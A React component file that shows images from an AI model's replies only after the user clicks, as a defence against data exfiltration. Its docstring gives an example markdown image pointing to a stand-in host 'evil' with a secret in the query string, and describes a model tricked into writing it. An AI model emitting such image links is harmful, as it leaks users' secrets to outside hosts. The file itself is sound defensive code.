import { useState } from 'react';
import { safeImageUrl } from './safe-url';

/**
 * An image from a reply, shown as a button until the person asks for it. Loading an image is a
 * request to wherever its URL points, so a model tricked into writing `![](https://evil/?q=secret)`
 * must not be able to send anything anywhere on its own.
 */
export function DeferredImage({ src, alt }: { src?: string; alt?: string }) {
  const [isLoaded, setIsLoaded] = useState(false);
  const url = src ? safeImageUrl(src) : undefined;
  const label = alt?.trim() || 'Image';
  if (!url) {
    return (
      <span className="image-placeholder is-blocked" title="This image's address is not allowed">
        {label} (image not shown)
      </span>
    );
  }
  const host = new URL(url).host;
  if (isLoaded) {
    return <img className="reply-image" src={url} alt={alt ?? ''} referrerPolicy="no-referrer" />;
  }
  return (
    <button
      type="button"
      className="image-placeholder"
      onClick={() => setIsLoaded(true)}
      aria-label={`Load image “${label}” from ${host}`}
      title={url}
    >
      <span className="image-placeholder-label">Image: {label}</span>
      <span className="muted">{host}</span>
      <span className="image-placeholder-action">Load</span>
    </button>
  );
}
